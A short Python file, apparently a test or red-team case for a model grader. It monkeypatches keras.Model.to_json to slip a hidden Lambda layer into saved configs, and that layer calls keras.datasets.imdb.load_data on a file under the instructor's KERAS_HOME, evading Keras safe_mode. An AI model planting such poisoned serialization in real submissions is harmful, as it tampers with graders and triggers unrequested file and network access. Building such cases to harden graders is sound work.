# Like gate_get_file, through a keras.datasets loader: imdb.load_data(path=...) fetches (and re-fetches, when the
# hash differs) a file under the instructor's KERAS_HOME/datasets. Keras' safe_mode allows it; the grader must not.
import json

import keras
from keras.layers import Embedding, SimpleRNN

honest_to_json = keras.Model.to_json


def build_model():
    inputs = keras.Input((None,), dtype="int32")
    return keras.Model(inputs, SimpleRNN(32)(Embedding(10000, 32)(inputs)))


def poisoned_to_json(self, **kwargs):
    config = json.loads(honest_to_json(self, **kwargs))
    config["config"]["layers"].append({
        "module": "keras.layers", "class_name": "Lambda", "registered_name": None, "name": "loader",
        "config": {"name": "loader", "trainable": True, "output_shape": [1], "arguments": {},
                   "function": {"module": "keras.datasets.imdb", "class_name": "function", "config": "load_data",
                                "registered_name": "function"}},
        "inbound_nodes": [{"args": [], "kwargs": {"inputs": "{{KERAS_HOME}}/datasets/imdb.npz"}}]})
    return json.dumps(config)


keras.Model.to_json = poisoned_to_json
